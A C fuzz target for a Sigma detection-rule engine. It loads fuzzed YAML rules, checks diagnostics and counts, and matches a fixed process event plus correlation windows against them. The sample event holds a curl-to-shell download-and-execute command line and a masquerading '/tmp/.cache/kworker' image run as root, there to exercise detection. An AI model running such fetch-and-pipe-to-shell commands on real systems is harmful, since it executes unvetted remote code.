/* Fuzz target: Sigma rule loading (lib/detect: YAML tree, rule checks,
 * modifiers, patterns, regexes, conditions) and matching one fixed event
 * against whatever loaded. Checks the load contract: it succeeds unless out
 * of memory, counts what it reports, and every diagnostic is one clean line. */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "detect.h"
#include "err.h"
#include "event.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

struct seen {
	unsigned errors, unsupported;
};

static void on_diag(const struct detect_diag *d, void *ctx)
{
	struct seen *s = ctx;

	if (d->severity == YM_E_PARSE)
		s->errors++;
	else if (d->severity == YM_E_UNSUPPORTED)
		s->unsupported++;
	else
		abort();
	if (!memchr(d->reason, 0, sizeof(d->reason)) || !memchr(d->file, 0, sizeof(d->file)))
		abort();
	for (const char *p = d->reason; *p; p++) {
		if (*p == '\n' || *p == '\r')
			abort();
	}
}

static int on_match(const struct rule_info *ri, const struct event *ev, void *ctx)
{
	(void)ev;
	(void)ctx;
	/* every string of a rule is there, never NULL */
	if (!ri->id || !ri->title || !ri->level || !ri->product || !ri->category || !ri->file ||
	    (ri->ntags && !ri->tags))
		abort();
	return 0;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct ruleset *rs = NULL;
	struct detect_load_stats st;
	struct seen seen = {0};
	struct event ev;
	int rc, n;

	rc = ruleset_load_mem((const char *)data, size, "fuzz.yml", &rs, &st, on_diag, &seen);
	if (rc == YM_E_NOMEM)
		return 0;
	if (rc != 0 || !rs)
		abort();
	if (st.loaded != ruleset_count(rs) || st.errors != seen.errors ||
	    st.unsupported != seen.unsupported)
		abort();

	event_init(&ev);
	ev.category = EVCAT_PROCESS_CREATION;
	ev.product = "linux";
	event_set_str(&ev, "Image", "/tmp/.cache/kworker");
	event_set_str(&ev, "CommandLine", "bash -c curl -s http://127.0.0.1:8000/x.sh | sh");
	event_set_str(&ev, "ParentImage", "/usr/bin/bash");
	event_set_str(&ev, "ParentCommandLine", "");
	event_set_str(&ev, "User", "root");
	event_set_str(&ev, "ProcessId", "4242");
	n = ruleset_match(rs, &ev, on_match, NULL);
	if (n < 0 || (size_t)n > ruleset_count(rs))
		abort();
	ev.product = NULL;
	ev.category = EVCAT_MAX_ + 3;
	n = ruleset_match(rs, &ev, on_match, NULL);
	if (n < 0 || (size_t)n > ruleset_count(rs))
		abort();
	/* correlation windows and routing by service and category name */
	{
		struct correl_limits lim = {.max_groups = 4, .max_entries = 4};
		struct correl_state *cs = NULL;
		if (correl_state_new(rs, &lim, &cs) == 0) {
			static const char *const prods[] = {"linux", "windows", "test"};
			for (int k = 0; k < 9; k++) {
				ev.product = prods[k % 3];
				ev.category = k < 3 ? EVCAT_PROCESS_CREATION : EVCAT_UNKNOWN;
				ev.category_name = k < 6 ? "spec" : "registry_set";
				ev.service = k & 1 ? "sysmon" : NULL;
				ev.ts_ns = (uint64_t)k * 1000000000ull;
				n = ruleset_match_correl(rs, cs, &ev, on_match, NULL);
				if (n < 0 || (size_t)n > ruleset_count(rs))
					abort();
			}
			correl_state_free(cs);
		}
	}
	ruleset_free(rs);
	return 0;
}
